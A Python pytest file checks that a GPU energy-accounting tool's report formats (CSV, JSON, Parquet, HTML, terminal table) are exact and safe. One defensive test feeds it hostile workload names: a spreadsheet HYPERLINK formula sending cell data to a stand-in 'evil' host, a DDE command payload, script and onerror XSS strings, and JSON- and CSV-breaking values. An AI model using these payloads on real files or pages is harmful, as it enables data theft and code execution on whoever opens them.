"""Every format of the same report: exact, safe against names, and found by name."""

import csv
import io
import json
import sys
import unicodedata
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from submeter.errors import InputError
from submeter.reports import presentations
from submeter.reports.ledger import from_ledger
from submeter.reports.moments import zone
from submeter.reports.presentations.csv import guarded
from submeter.reports.question import Question
from submeter.reports.record import Origin, Report, Row

NOW_S = 1_774_747_815
BERLIN = zone("Europe/Berlin")


@pytest.fixture
def report(small: Path) -> Report:
    return from_ledger(small, Question(("workload", "day"), zone=BERLIN, timeline=True), NOW_S)


def named(*names: str) -> Report:
    rows = tuple(Row((name,), 1_000_000) for name in names)
    return Report(
        *(Question(("workload",)), Origin("ledger", "nvml"), "1", NOW_S, 0, NOW_S),
        total_uj=1_000_000 * len(names),
        rows=rows,
    )


@pytest.mark.parametrize("name", presentations.available())
def test_every_format_has_what_a_format_needs(name: str, report: Report) -> None:
    found = presentations.load(name)
    assert found.SUFFIX.startswith(".")
    content = found.render(report)
    assert content
    assert content == found.render(report)
    assert name == "parquet" or b"\x1b" not in content


@pytest.mark.parametrize("name", [name for name in presentations.available() if name != "parquet"])
@given(st.lists(st.text(), min_size=1, max_size=4, unique=True))
def test_any_name_can_be_shown(name: str, names: list[str]) -> None:
    text = presentations.load(name).render(named(*names)).decode()
    odd = {mark for mark in text if unicodedata.category(mark) == "Cc"} - {"\n", "\r", "\t"}
    assert not odd


@given(st.dictionaries(st.text(), st.integers(0, 2**62 // 10), min_size=1, max_size=9))
def test_parquet_is_read_back_as_it_was(energies_uj: dict[str, int]) -> None:
    rows = tuple(Row((name,), energy_uj) for name, energy_uj in energies_uj.items())
    made = replace(named(), rows=rows, total_uj=sum(energies_uj.values()))
    found = parquet.read_table(io.BytesIO(presentations.load("parquet").render(made)))
    assert found["workload"].to_pylist() == list(energies_uj)
    assert found["energy_uj"].to_pylist() == list(energies_uj.values())
    rest = json.loads(found.schema.metadata[b"submeter"])
    assert Decimal(rest["total_joules"]) * 1_000_000 == sum(energies_uj.values())
    assert found["carbon_g"].to_pylist() == [None] * len(rows)


def test_parquet_without_pyarrow_says_what_to_install(
    report: Report, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(InputError, match=r"pip install 'submeter\[parquet\]'"):
        presentations.load("parquet").render(report)


def test_an_unknown_format_is_an_error() -> None:
    with pytest.raises(InputError, match=r"did you mean csv\?"):
        presentations.load("cvs")


def test_json_is_what_the_interface_says(report: Report) -> None:
    fields = json.loads(presentations.load("json").render(report))
    assert fields["schema"] == 1
    assert fields["since"] == "2026-03-28T23:30:00+01:00"
    assert fields["until"] == "2026-03-29T03:30:15+02:00"
    assert fields["total_joules"] == "5.75"
    assert fields["factors"] == {}
    assert fields["gpus"] == [{"gpu": None, "uuid": "GPU-1", "name": "", "joules": "5.75"}]
    assert fields["rows"][0] == {
        "workload": "train.py",
        "day": "2026-03-28",
        "joules": "3.000001",
        "wh": pytest.approx(3.000001 / 3600),
        "share": pytest.approx(3.000001 / 5.75),
        "facility_joules": None,
        "carbon_g": None,
        "water_l": None,
        "cost": None,
    }
    assert sum(Decimal(row["joules"]) for row in fields["rows"]) == Decimal("5.75")
    assert fields["quality"]["suspect_joules"] == {"jump": "21"}
    assert fields["quality"]["partial"] is False


@pytest.mark.threat("T8")
def test_csv_has_exact_joules_and_no_formula(report: Report) -> None:
    lines = list(csv.DictReader(io.StringIO(presentations.load("csv").render(report).decode())))
    assert sum(Decimal(line["joules"]) for line in lines) == Decimal("5.75")
    assert lines[0]["carbon_g"] == ""
    assert any(line["workload"].startswith("'=cmd|") for line in lines)


@pytest.mark.threat("T8")
@given(st.text())
def test_no_cell_of_text_begins_as_a_formula_does(name: str) -> None:
    cell = guarded(name)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    cell.encode()  # no lone surrogate is left


@given(st.lists(st.text(), min_size=1, max_size=4, unique=True))
def test_json_says_any_name_as_it_is(names: list[str]) -> None:
    fields = json.loads(presentations.load("json").render(named(*names)))
    assert [row["workload"] for row in fields["rows"]] == names


def test_names_that_attack_whoever_opens_the_file_are_only_text() -> None:
    attacks = (
        '=HYPERLINK("http://evil/?"&A1;"paid")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        " =1+1",
        '</script><script>alert("1")</script>',
        "<img src=x onerror=alert(1)>",
        '"],"total_joules":"0","x":["',
        "a,b\r\nc,d",
    )
    report = named(*attacks)
    fields = json.loads(presentations.load("json").render(report))
    assert [row["workload"] for row in fields["rows"]] == list(attacks)
    assert fields["total_joules"] == str(len(attacks))
    cells = list(csv.DictReader(io.StringIO(presentations.load("csv").render(report).decode())))
    assert len(cells) == len(attacks)
    for cell, attack in zip(cells, attacks, strict=True):
        assert cell["workload"].lstrip()[0] not in "=+-@"
        assert cell["workload"].removeprefix("'") == attack
    page = presentations.load("html").render(report).decode()
    assert not [each for each in ("<script", "<img") if each in page.lower()]


def test_a_table_has_bars_totals_and_what_limits_it(report: Report) -> None:
    text = presentations.load("table").render(report).decode()
    assert text.splitlines()[0] == (
        "2026-03-28 23:30:00+01:00 to 2026-03-29 03:30:15+02:00 (Europe/Berlin)"
    )
    assert "total" in text
    assert "5.750 J" in text
    assert "██████████▍" in text
    assert "how it was split: exclusive 52.2 %" in text
    assert "suspect: 21.000 J (jump)" in text
    assert "no figure for 6 s: power was not sampled" in text
    coloured = presentations.load("table").render(report, colour=True).decode()
    assert "\x1b[1m" in coloured


def test_wide_names_keep_columns_straight() -> None:
    text = presentations.load("table").render(named("訓練", "ab")).decode()
    places = [line.index("1.000 J") for line in text.splitlines() if "1.000 J" in line]
    assert places[1] - places[0] == 2  # two characters less, four cells both
